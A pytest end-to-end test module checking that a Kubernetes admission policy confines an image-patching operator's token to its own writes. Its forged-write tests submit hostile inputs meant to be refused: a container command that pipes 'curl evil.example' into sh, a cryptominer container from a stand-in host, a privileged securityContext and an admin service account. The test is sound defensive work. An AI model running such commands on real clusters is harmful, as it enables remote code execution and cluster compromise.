"""deploy/admission-policy.yaml on the real API server: the operator's token writes only what the operator writes.

Given the shipped namespace, RBAC and ValidatingAdmissionPolicy, installed by
``tests/support/operator.py::install_rbac`` (the e2e operator fixture installs
them the same way, so every e2e test runs the operator under the policy), and
a kubeconfig holding only the operator ServiceAccount's token:

* the operator's own writes pass, made by its own adapter
  (``adapters/kube.py``): a digest-pinned image on a container and on an init
  container of each kind it patches, with the failed-digests annotation in the
  same write; the rollback of a workload whose digest was never known (the
  digest dropped from the reference it pinned, and nothing else); its state
  annotation set on an opted-in workload and removed from one that opted out;
  a CronJob trial run; a build Job created and deleted in the build namespace;
* forged writes with the same token are refused, each with a message naming
  what was refused: a tag (not a digest), a change of ``command``, ``env`` or
  ``replicas``, a new container, a label or a tenant's annotation, an image
  (or a state annotation) on a workload that did not opt in, a CronJob's
  schedule, a Job in a workload namespace not owned by a CronJob; an
  unpinned write that is not exactly the pinned reference minus its digest; a
  pod delete other than a StatefulSet's pod that is not Ready (the forced
  rollback's);
* nobody else is affected: an admin makes the same change freely.
"""

from __future__ import annotations

import asyncio
import copy
import json
import uuid
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
import yaml
from kubernetes import client, config
from kubernetes.client.exceptions import ApiException

from imagepatch.adapters.errors import ConfigurationError, ConflictError
from imagepatch.adapters.kube import Kube
from tests.support.argo import install_crds
from tests.support.operator import (
    ADMISSION_POLICY,
    NAMESPACE,
    REPO,
    SERVICE_ACCOUNT,
    install_rbac,
    service_account_kubeconfig,
)
from tests.support.wait import wait_for

pytestmark = pytest.mark.cluster

BUILD_NAMESPACE = "imagepatch-builds"  # deploy/'s; the policy's variables.buildNamespace
POLICY = "imagepatch.dev/policy"
STATE = "imagepatch.dev/state"
FAILED = "imagepatch.dev/failed-digests"
DIGEST = "sha256:" + "a" * 64
OTHER_DIGEST = "sha256:" + "b" * 64
KINDS = ("Deployment", "StatefulSet", "DaemonSet", "CronJob")


def pod_template(name: str) -> dict[str, Any]:
    return {
        "metadata": {"labels": {"app": name}},
        "spec": {
            "initContainers": [{"name": "init", "image": "registry.example/init:1"}],
            "containers": [
                {"name": "app", "image": "registry.example/app:1",
                 "env": [{"name": "MODE", "value": "prod"}]},
                {"name": "sidecar", "image": "registry.example/sidecar:1"},
            ],
        },
    }


def workload(kind: str, namespace: str, name: str, *, opted_in: bool = True) -> dict[str, Any]:
    annotations = {"team.example/owner": "web"}
    if opted_in:
        annotations[POLICY] = "shared"
    meta = {"name": name, "namespace": namespace, "labels": {"app": name},
            "annotations": annotations}
    template = pod_template(name)
    if kind == "CronJob":
        template["spec"]["restartPolicy"] = "Never"
        return {"apiVersion": "batch/v1", "kind": kind, "metadata": meta,
                "spec": {"schedule": "0 0 1 1 *",
                         "jobTemplate": {"spec": {"template": template}}}}
    spec: dict[str, Any] = {"selector": {"matchLabels": {"app": name}}, "template": template}
    if kind == "Deployment":
        spec["replicas"] = 1
    if kind == "StatefulSet":
        spec |= {"replicas": 1, "serviceName": name}
    return {"apiVersion": "apps/v1", "kind": kind, "metadata": meta, "spec": spec}


@dataclass
class Operator:
    """The operator's token: its adapter, and the raw client for forged requests."""

    kube: Kube
    api: client.ApiClient

    def run(self, make: Callable[[], Coroutine[Any, Any, Any]]) -> Any:
        return asyncio.run(make())

    def refused(self, make: Callable[[], Coroutine[Any, Any, Any]]) -> str:
        """The policy's message refusing an adapter call."""
        with pytest.raises(ConfigurationError) as caught:
            asyncio.run(make())
        message = str(caught.value)
        assert "HTTP 403" in message and ADMISSION_POLICY in message, message
        return message

    def forge(self, kind: str, namespace: str, name: str, body: Any,
              content_type: str = "application/strategic-merge-patch+json") -> str:
        """A raw patch with the operator's token; the policy's message refusing it."""
        calls = {"Deployment": client.AppsV1Api(self.api).patch_namespaced_deployment,
                 "StatefulSet": client.AppsV1Api(self.api).patch_namespaced_stateful_set,
                 "DaemonSet": client.AppsV1Api(self.api).patch_namespaced_daemon_set,
                 "CronJob": client.BatchV1Api(self.api).patch_namespaced_cron_job}
        with pytest.raises(ApiException) as caught:
            calls[kind](name, namespace, body, _content_type=content_type)
        return refusal(caught.value)


def refusal(exc: ApiException) -> str:
    message = json.loads(exc.body)["message"]
    assert exc.status == 403 and ADMISSION_POLICY in message, message
    return message


@pytest.fixture(scope="module")
def operator(kube, tmp_path_factory: pytest.TempPathFactory) -> Operator:
    install_rbac(kube)  # namespace.yaml, rbac.yaml, admission-policy.yaml; waits until enforced
    path = service_account_kubeconfig(kube, tmp_path_factory.mktemp("sa") / "operator.kubeconfig")
    api = config.new_client_from_config(config_file=str(path))
    return Operator(kube=Kube(api), api=api)


@pytest.fixture
def namespace(kube) -> Iterator[str]:
    name = f"t-vap-{uuid.uuid4().hex[:8]}"
    kube.kubectl("create", "namespace", name)
    yield name
    kube.kubectl("delete", "namespace", name, "--wait=false", check=False)


def create(kube, body: dict[str, Any]) -> dict[str, Any]:
    return json.loads(kube.kubectl("create", "-o", "json", "-f", "-", input=json.dumps(body)))


def get(kube, kind: str, namespace: str, name: str) -> dict[str, Any]:
    return json.loads(kube.kubectl("get", kind.lower(), name, "-n", namespace, "-o", "json"))


def pod_spec(obj: dict[str, Any]) -> dict[str, Any]:
    spec = obj["spec"]["jobTemplate"]["spec"] if obj["kind"] == "CronJob" else obj["spec"]
    return spec["template"]["spec"]


def without_images(obj: dict[str, Any]) -> dict[str, Any]:
    """Labels, the owner's annotations and the spec minus the images.

    Controllers add annotations of their own (a Deployment's revision, a
    DaemonSet's template generation) and status; those are not compared.
    """
    spec = copy.deepcopy(obj["spec"])
    pod = pod_spec({"kind": obj["kind"], "spec": spec})
    for container in pod["containers"] + pod.get("initContainers", []):
        container.pop("image")
    annotations = obj["metadata"].get("annotations") or {}
    return {"labels": obj["metadata"].get("labels"), "spec": spec,
            "annotations": {k: v for k, v in annotations.items()
                            if k in (POLICY, "team.example/owner")}}


def images(obj: dict[str, Any]) -> dict[str, str]:
    pod = pod_spec(obj)
    return {c["name"]: c["image"] for c in pod["containers"] + pod.get("initContainers", [])}


async def set_image(operator: Operator, kube, kind: str, namespace: str, name: str,
                    **kwargs: Any) -> dict[str, Any]:
    """The operator's image write, on the version just read (a controller's status write
    in between is a 409 before admission: read again, as the operator does)."""
    for _ in range(10):
        version = get(kube, kind, namespace, name)["metadata"]["resourceVersion"]
        try:
            return await operator.kube.set_container_image(
                namespace, name, resource_version=version, kind=kind, **kwargs)
        except ConflictError:
            continue
    raise AssertionError(f"{kind} {namespace}/{name} kept changing")


# -- the operator's own writes pass ---------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_operator_pins_images_of_containers_and_init_containers_on_opted_in_workloads(
    kube, operator: Operator, namespace: str, kind: str
) -> None:
    # Given an opted-in workload of each kind the operator patches
    create(kube, workload(kind, namespace, "web"))
    before = get(kube, kind, namespace, "web")

    # When the operator pins its app container (the rollout write) ...
    operator.run(lambda: set_image(operator, kube, kind, namespace, "web", container="app",
                                   image=f"registry.example/app:1@{DIGEST}"))
    # ... and then its init container, remembering a failed digest in the same
    # write (the rollback write's shape)
    operator.run(lambda: set_image(
        operator, kube, kind, namespace, "web", container="init",
        image=f"registry.example/init:1@{OTHER_DIGEST}", container_list="initContainers",
        annotations={FAILED: json.dumps([DIGEST])}))
    # ... and records its state annotation
    operator.run(lambda: operator.kube.annotate_workload(
        kind, namespace, "web", {STATE: '{"state": "Compliant"}'}))

    # Then all three writes passed, and changed nothing else
    after = get(kube, kind, namespace, "web")
    assert images(after) == {"app": f"registry.example/app:1@{DIGEST}",
                             "init": f"registry.example/init:1@{OTHER_DIGEST}",
                             "sidecar": "registry.example/sidecar:1"}
    assert after["metadata"]["annotations"][FAILED] == json.dumps([DIGEST])
    assert after["metadata"]["annotations"][STATE] == '{"state": "Compliant"}'
    assert without_images(after) == without_images(before)


def test_operator_rolls_back_to_the_tag_it_pinned_when_no_digest_was_ever_known(
    kube, operator: Operator, namespace: str
) -> None:
    # Given a workload the operator pinned from a bare tag
    create(kube, workload("Deployment", namespace, "web"))
    operator.run(lambda: set_image(operator, kube, "Deployment", namespace, "web", container="app",
                                   image=f"registry.example/app:1@{DIGEST}"))
    # When it rolls back and no digest of the old image was ever known (the
    # one unpinned write it makes: core/rollout/targets.py::rollback_image_for)
    operator.run(lambda: set_image(operator, kube, "Deployment", namespace, "web", container="app",
                                   image="registry.example/app:1", allow_unpinned=True))
    # Then the tag the owner wrote is back
    assert images(get(kube, "Deployment", namespace, "web"))["app"] == "registry.example/app:1"
    # But dropping a digest never lands on another reference
    operator.run(lambda: set_image(operator, kube, "Deployment", namespace, "web", container="app",
                                   image=f"registry.example/app:1@{DIGEST}"))
    for image in ("registry.example/app:2", "registry.example/app", "evil.example/app:1"):
        message = operator.refused(lambda image=image: set_image(
            operator, kube, "Deployment", namespace, "web", container="app", image=image,
            allow_unpinned=True))
        assert f"refused containers[app]={image} on" in message


def test_operator_removes_its_state_annotation_from_a_workload_that_opted_out(
    kube, operator: Operator, namespace: str
) -> None:
    # Given a workload that opted out, with the operator's state annotation left on it
    body = workload("Deployment", namespace, "gone", opted_in=False)
    body["metadata"]["annotations"][STATE] = '{"state": "Compliant"}'
    create(kube, body)
    # When detection cleans up after it (reconcile/detection/detector.py: _clear_orphans)
    operator.run(lambda: operator.kube.annotate_workload("Deployment", namespace, "gone", {STATE: None}))
    # Then the annotation is gone, and the owner's annotations stay
    after = get(kube, "Deployment", namespace, "gone")
    assert STATE not in after["metadata"]["annotations"]
    assert after["metadata"]["annotations"]["team.example/owner"] == "web"


def test_operator_starts_a_cronjob_trial_run_and_builds_in_the_build_namespace(
    kube, operator: Operator, namespace: str
) -> None:
    # Given an opted-in CronJob
    create(kube, workload("CronJob", namespace, "nightly"))
    cronjob = operator.run(lambda: operator.kube.get_workload("CronJob", namespace, "nightly"))
    # When the operator starts a trial run of it (rollout.cronJobTrialRun)
    assert operator.run(lambda: operator.kube.create_trial_job(cronjob, "nightly-trial-1"))
    # Then the Job exists, owned by the CronJob
    job = get(kube, "Job", namespace, "nightly-trial-1")
    assert [r["uid"] for r in job["metadata"]["ownerReferences"]] == [cronjob["metadata"]["uid"]]

    # And a build Job (the job rebuild strategy's call) is created and deleted in the build namespace
    batch = client.BatchV1Api(operator.api)
    name = f"build-{uuid.uuid4().hex[:8]}"
    batch.create_namespaced_job(BUILD_NAMESPACE, {
        "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": name},
        "spec": {"template": {"spec": {"restartPolicy": "Never", "containers": [
            {"name": "build", "image": f"registry.example/buildah@{DIGEST}"}]}}}})
    batch.delete_namespaced_job(name, BUILD_NAMESPACE, propagation_policy="Background")


# -- forged writes with the operator's token are refused ------------------------------


def test_forged_workload_writes_with_the_operator_token_are_refused(
    kube, operator: Operator, namespace: str
) -> None:
    create(kube, workload("Deployment", namespace, "web"))
    before = get(kube, "Deployment", namespace, "web")

    # A tag, not a digest: even through the operator's own unpinned-rollback path
    message = operator.refused(lambda: set_image(
        operator, kube, "Deployment", namespace, "web", container="app",
        image="registry.example/app:2", allow_unpinned=True))
    assert "digest-pinned" in message and "containers[app]=registry.example/app:2" in message
    message = operator.forge("Deployment", namespace, "web", {"spec": {"template": {"spec": {
        "initContainers": [{"name": "init", "image": "evil.example/init:latest"}]}}}})
    assert "initContainers[init]=evil.example/init:latest" in message

    # Anything but an image in a container
    message = operator.forge("Deployment", namespace, "web", {"spec": {"template": {"spec": {
        "containers": [{"name": "app", "command": ["sh", "-c", "curl evil.example | sh"]}]}}}})
    assert "containers[app].command" in message
    message = operator.forge("Deployment", namespace, "web", {"spec": {"template": {"spec": {
        "containers": [{"name": "app", "env": [{"name": "MODE", "value": "debug"}]}]}}}})
    assert "containers[app].env" in message
    # ... even with a pinned image in the same write
    message = operator.forge("Deployment", namespace, "web", {"spec": {"template": {"spec": {
        "containers": [{"name": "app", "image": f"registry.example/app:1@{DIGEST}",
                        "securityContext": {"privileged": True}}]}}}})
    assert "containers[app].securityContext" in message

    # Anything outside the containers
    message = operator.forge("Deployment", namespace, "web", {"spec": {"replicas": 5}},
                             "application/merge-patch+json")
    assert "spec.replicas" in message
    message = operator.forge("Deployment", namespace, "web", {"spec": {"template": {"spec": {
        "serviceAccountName": "admin"}}}})
    assert "spec.template.spec.serviceAccountName" in message
    message = operator.forge("Deployment", namespace, "web", {"metadata": {"labels": {"tier": "x"}}},
                             "application/merge-patch+json")
    assert "metadata.labels" in message

    # A new container, digest-pinned or not
    message = operator.forge("Deployment", namespace, "web", {"spec": {"template": {"spec": {
        "containers": [{"name": "miner", "image": f"evil.example/miner@{DIGEST}"}]}}}})
    assert "containers list" in message

    # A tenant's annotation: another policy, or one that is not imagepatch's at all
    message = operator.refused(lambda: operator.kube.annotate_workload(
        "Deployment", namespace, "web", {POLICY: "lenient"}))
    assert f"annotation {POLICY}" in message
    message = operator.refused(lambda: operator.kube.annotate_workload(
        "Deployment", namespace, "web", {"team.example/owner": None}))
    assert "annotation team.example/owner" in message

    # Nothing of it landed
    after = get(kube, "Deployment", namespace, "web")
    assert without_images(after) == without_images(before)
    assert images(after) == images(before)


def test_writes_to_a_workload_that_did_not_opt_in_are_refused(
    kube, operator: Operator, namespace: str
) -> None:
    create(kube, workload("StatefulSet", namespace, "db", opted_in=False))
    message = operator.refused(lambda: set_image(
        operator, kube, "StatefulSet", namespace, "db", container="app",
        image=f"registry.example/app:1@{DIGEST}"))
    assert "carry the annotation imagepatch.dev/policy" in message
    assert f"StatefulSet {namespace}/db" in message
    message = operator.refused(lambda: operator.kube.annotate_workload(
        "StatefulSet", namespace, "db", {STATE: '{"state": "Compliant"}'}))
    assert f"setting annotation {STATE}" in message


def test_forged_cronjob_and_job_writes_are_refused(kube, operator: Operator, namespace: str) -> None:
    create(kube, workload("CronJob", namespace, "nightly"))
    message = operator.forge("CronJob", namespace, "nightly", {"spec": {"schedule": "* * * * *"}},
                             "application/merge-patch+json")
    assert "spec.schedule" in message
    message = operator.forge("CronJob", namespace, "nightly", {"spec": {"jobTemplate": {"spec": {
        "template": {"spec": {"containers": [{"name": "app", "args": ["--evil"]}]}}}}}})
    assert "containers[app].args" in message

    # A Job in a workload namespace that no CronJob owns (RBAC alone allows it anywhere)
    batch = client.BatchV1Api(operator.api)
    with pytest.raises(ApiException) as caught:
        batch.create_namespaced_job(namespace, {
            "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "forged"},
            "spec": {"template": {"spec": {"restartPolicy": "Never", "containers": [
                {"name": "x", "image": f"evil.example/x@{DIGEST}"}]}}}})
    message = refusal(caught.value)
    assert f"only in its build namespace {BUILD_NAMESPACE}" in message
    assert f"Job {namespace}/forged" in message


def simple_workload(kind: str, namespace: str, name: str, *, behavior: str = "") -> dict[str, Any]:
    labels = {"app": name, **({"sim.imagepatch.dev/behavior": behavior} if behavior else {})}
    spec: dict[str, Any] = {
        "replicas": 1, "selector": {"matchLabels": {"app": name}},
        "template": {"metadata": {"labels": labels},
                     "spec": {"containers": [{"name": "app", "image": "registry.example/app:1"}]}}}
    if kind == "StatefulSet":
        spec["serviceName"] = name
    return {"apiVersion": "apps/v1", "kind": kind,
            "metadata": {"name": name, "namespace": namespace}, "spec": spec}


def pod_ready(kube, namespace: str, selector: str) -> tuple[str, bool] | None:
    """(name, Ready) of the one Running pod matching ``selector``, once there is one."""
    pods = json.loads(kube.kubectl("get", "pods", "-n", namespace, "-l", selector, "-o", "json"))["items"]
    running = [p for p in pods if p.get("status", {}).get("phase") == "Running"]
    if len(running) != 1:
        return None
    ready = any(c["type"] == "Ready" and c["status"] == "True"
                for c in running[0]["status"].get("conditions", []))
    return running[0]["metadata"]["name"], ready


@pytest.mark.kwok
def test_operator_deletes_only_pods_a_statefulset_owns_that_are_not_ready(
    kube, operator: Operator, namespace: str
) -> None:
    # Given the operator may delete pods (the StatefulSet forced rollback's grant in
    # deploy/rbac.yaml; granted here in this namespace, so the policy is what decides)
    kube.kubectl("create", "role", "pod-deleter", "-n", namespace, "--verb=delete", "--resource=pods")
    kube.kubectl("create", "rolebinding", "pod-deleter", "-n", namespace, "--role=pod-deleter",
                 f"--serviceaccount={NAMESPACE}:{SERVICE_ACCOUNT}")
    # and a StatefulSet whose pod never becomes Ready, one whose pod is Ready, and a Deployment
    create(kube, simple_workload("StatefulSet", namespace, "stuck", behavior="never-ready"))
    create(kube, simple_workload("StatefulSet", namespace, "fine"))
    create(kube, simple_workload("Deployment", namespace, "web"))
    stuck, stuck_ready = wait_for(lambda: pod_ready(kube, namespace, "app=stuck"), timeout=60, what="stuck-0")
    fine = wait_for(lambda: (p := pod_ready(kube, namespace, "app=fine")) and p[1] and p, timeout=60,
                    what="fine-0 Ready")[0]
    web = wait_for(lambda: (p := pod_ready(kube, namespace, "app=web")) and p[1] and p, timeout=60,
                   what="the Deployment's pod Ready")[0]
    assert not stuck_ready
    core = client.CoreV1Api(operator.api)

    # When the operator deletes the stuck pod (a forced rollback), it may
    core.delete_namespaced_pod(stuck, namespace)
    # But a Ready pod of a StatefulSet, or any pod of another kind, it may not
    for name in (fine, web):
        with pytest.raises(ApiException) as caught:
            core.delete_namespaced_pod(name, namespace)
        message = refusal(caught.value)
        assert "only pods a StatefulSet owns that are not Ready" in message
        assert f"Pod {namespace}/{name}" in message


def test_the_policy_binds_only_the_operator_service_account(kube, operator: Operator, namespace: str) -> None:
    # An admin (or any other controller) is not subject to it
    create(kube, workload("Deployment", namespace, "web"))
    kube.kubectl("-n", namespace, "patch", "deployment", "web", "--type=merge",
                 "-p", json.dumps({"spec": {"replicas": 2}}))
    kube.kubectl("-n", namespace, "set", "image", "deployment/web", "app=registry.example/app:2")
    assert get(kube, "Deployment", namespace, "web")["spec"]["replicas"] == 2

    # And the API server type-checked every expression without a warning
    status = json.loads(kube.kubectl("get", "validatingadmissionpolicy", ADMISSION_POLICY, "-o", "json"))
    assert not status.get("status", {}).get("typeChecking", {}).get("expressionWarnings")
    shipped = [d for d in yaml.safe_load_all((REPO / "deploy" / "admission-policy.yaml").read_text()) if d]
    assert {d["kind"] for d in shipped} == {"ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"}
    assert all(d["metadata"]["name"] == ADMISSION_POLICY for d in shipped)


# -- Argo Rollouts (issue 23): a Rollout is a workload; promote and abort only ----------


@pytest.fixture(scope="module")
def rollouts(kube, operator: Operator) -> None:
    """Argo Rollouts' CRDs (no controller: only the API matters here) and the opt-in RBAC."""
    install_crds(kube)
    kube.kubectl("apply", "-f", str(REPO / "deploy" / "rbac-argo-rollouts.yaml"))


def rollout(namespace: str, name: str, *, opted_in: bool = True) -> dict[str, Any]:
    body = workload("Deployment", namespace, name, opted_in=opted_in)
    body["apiVersion"], body["kind"] = "argoproj.io/v1alpha1", "Rollout"
    body["spec"]["strategy"] = {"blueGreen": {"activeService": name}}
    return body


def set_rollout_status(kube, namespace: str, name: str, status: dict[str, Any]) -> None:
    kube.kubectl("patch", "rollout", name, "-n", namespace, "--subresource=status",
                 "--type=merge", "-p", json.dumps({"status": status}))


def forge_rollout(operator: Operator, namespace: str, name: str, body: Any,
                  *, status: bool = False) -> str:
    custom = client.CustomObjectsApi(operator.api)
    call = (custom.patch_namespaced_custom_object_status if status
            else custom.patch_namespaced_custom_object)
    with pytest.raises(ApiException) as caught:
        call("argoproj.io", "v1alpha1", namespace, "rollouts", name, body,
             _content_type="application/merge-patch+json")
    return refusal(caught.value)


def test_operator_pins_promotes_and_aborts_an_opted_in_rollout(
    kube, operator: Operator, rollouts: None, namespace: str
) -> None:
    # Given an opted-in Rollout, paused at a manual step
    create(kube, rollout(namespace, "web"))
    kube.kubectl("patch", "rollout", "web", "-n", namespace, "--type=merge",
                 "-p", json.dumps({"spec": {"paused": True}}))
    set_rollout_status(kube, namespace, "web", {"pauseConditions": [
        {"reason": "BlueGreenPause", "startTime": "2026-01-01T00:00:00Z"}]})
    before = get(kube, "Rollout", namespace, "web")

    # When the operator pins both containers (the whole list is written, custom
    # resources take no strategic merge patch), records its state ...
    operator.run(lambda: set_image(operator, kube, "Rollout", namespace, "web", container="app",
                                   image=f"registry.example/app:1@{DIGEST}"))
    operator.run(lambda: set_image(
        operator, kube, "Rollout", namespace, "web", container="init",
        image=f"registry.example/init:1@{OTHER_DIGEST}", container_list="initContainers",
        annotations={FAILED: json.dumps([DIGEST])}))
    operator.run(lambda: operator.kube.annotate_workload(
        "Rollout", namespace, "web", {STATE: '{"state": "Compliant"}'}))
    # ... promotes it, as `kubectl argo rollouts promote` does, and aborts it
    operator.run(lambda: operator.kube.promote_rollout(get(kube, "Rollout", namespace, "web")))
    operator.run(lambda: operator.kube.abort_rollout(namespace, "web"))

    # Then every write passed, and changed nothing else
    after = get(kube, "Rollout", namespace, "web")
    assert images(after) == {"app": f"registry.example/app:1@{DIGEST}",
                             "init": f"registry.example/init:1@{OTHER_DIGEST}",
                             "sidecar": "registry.example/sidecar:1"}
    assert after["metadata"]["annotations"][STATE] == '{"state": "Compliant"}'
    assert after["spec"]["paused"] is False
    assert after["status"]["abort"] is True and "pauseConditions" not in after["status"]
    before["spec"]["paused"] = False
    assert without_images(after) == without_images(before)


def test_forged_rollout_writes_with_the_operator_token_are_refused(
    kube, operator: Operator, rollouts: None, namespace: str
) -> None:
    create(kube, rollout(namespace, "web"))
    create(kube, rollout(namespace, "other", opted_in=False))
    set_rollout_status(kube, namespace, "web", {"phase": "Healthy"})

    # A tag, a replica count, pausing it, on the Rollout itself
    app = {"spec": {"template": {"spec": {"containers": [
        {"name": "app", "image": "registry.example/app:2",
         "env": [{"name": "MODE", "value": "prod"}]},
        {"name": "sidecar", "image": "registry.example/sidecar:1"}]}}}}
    assert "digest-pinned" in forge_rollout(operator, namespace, "web", app)
    assert "spec.replicas" in forge_rollout(operator, namespace, "web", {"spec": {"replicas": 5}})
    assert "clear spec.paused" in forge_rollout(operator, namespace, "web",
                                                {"spec": {"paused": True}})
    # Status: only what promote and abort write, only on an opted-in Rollout.
    assert "status.phase" in forge_rollout(operator, namespace, "web",
                                           {"status": {"phase": "Degraded"}}, status=True)
    assert "status.abort" in forge_rollout(operator, namespace, "web",
                                           {"status": {"abort": False}}, status=True)
    refused = forge_rollout(operator, namespace, "other", {"status": {"abort": True}}, status=True)
    assert "opted-in Rollout" in refused and "other" in refused
    # An admin is not affected.
    kube.kubectl("patch", "rollout", "web", "-n", namespace, "--type=merge",
                 "-p", json.dumps({"spec": {"replicas": 5, "paused": True}}))


REFERENCED = "imagepatch.dev/rollout"


def referencing_rollout(namespace: str, name: str, deployment: str) -> dict[str, Any]:
    """An opted-in Rollout that runs ``deployment``'s template (spec.workloadRef)."""
    body = rollout(namespace, name)
    del body["spec"]["template"]
    body["spec"]["workloadRef"] = {"apiVersion": "apps/v1", "kind": "Deployment",
                                   "name": deployment, "scaleDown": "never"}
    return body


def referenced_deployment(namespace: str, name: str, consent: str | None) -> dict[str, Any]:
    body = workload("Deployment", namespace, name, opted_in=False)
    body["spec"]["replicas"] = 0
    if consent is not None:
        body["metadata"]["annotations"][REFERENCED] = consent
    return body


def test_operator_pins_the_deployment_a_rollout_references_only_with_its_consent(
    kube, operator: Operator, rollouts: None, namespace: str
) -> None:
    # Given a Rollout referencing a Deployment that consents (imagepatch.dev/rollout: web),
    # and a Deployment that does not carry the annotation
    create(kube, referencing_rollout(namespace, "web", "web-template"))
    create(kube, referenced_deployment(namespace, "web-template", consent="web"))
    create(kube, referenced_deployment(namespace, "plain", consent=None))
    before = get(kube, "Deployment", namespace, "web-template")

    # When the operator pins the Rollout's container, with its failed-digests annotation
    operator.run(lambda: set_image(
        operator, kube, "Rollout", namespace, "web", container="app",
        image=f"registry.example/app:1@{DIGEST}", annotations={FAILED: json.dumps([DIGEST])}))

    # Then the digest is in the Deployment's template, nothing else changed there, and the
    # annotation is on the Rollout (the target)
    after = get(kube, "Deployment", namespace, "web-template")
    assert images(after)["app"] == f"registry.example/app:1@{DIGEST}"
    assert without_images(after) == without_images(before)
    assert FAILED not in after["metadata"]["annotations"]
    assert get(kube, "Rollout", namespace, "web")["metadata"]["annotations"][FAILED] == json.dumps(
        [DIGEST])
    # The consent allows image writes only: no annotation of the operator's there, and a
    # Deployment without it is refused.
    message = operator.refused(lambda: operator.kube.annotate_workload(
        "Deployment", namespace, "web-template", {STATE: '{"state": "Compliant"}'}))
    assert f"setting annotation {STATE}" in message
    message = operator.forge("Deployment", namespace, "plain", {"spec": {"template": {"spec": {
        "containers": [{"name": "app", "image": f"registry.example/app:1@{DIGEST}"}]}}}})
    assert "imagepatch.dev/rollout" in message and f"Deployment {namespace}/plain" in message


def test_operator_never_writes_a_referenced_deployment_that_names_another_rollout(
    kube, operator: Operator, rollouts: None, namespace: str
) -> None:
    create(kube, referencing_rollout(namespace, "web", "shared-template"))
    create(kube, referenced_deployment(namespace, "shared-template", consent="api"))
    with pytest.raises(ConfigurationError) as caught:
        operator.run(lambda: set_image(operator, kube, "Rollout", namespace, "web",
                                       container="app", image=f"registry.example/app:1@{DIGEST}"))
    assert caught.value.reason == "WorkloadRefUnresolved"
    assert f"Deployment {namespace}/shared-template" in str(caught.value)
    assert images(get(kube, "Deployment", namespace, "shared-template"))["app"] == (
        "registry.example/app:1")
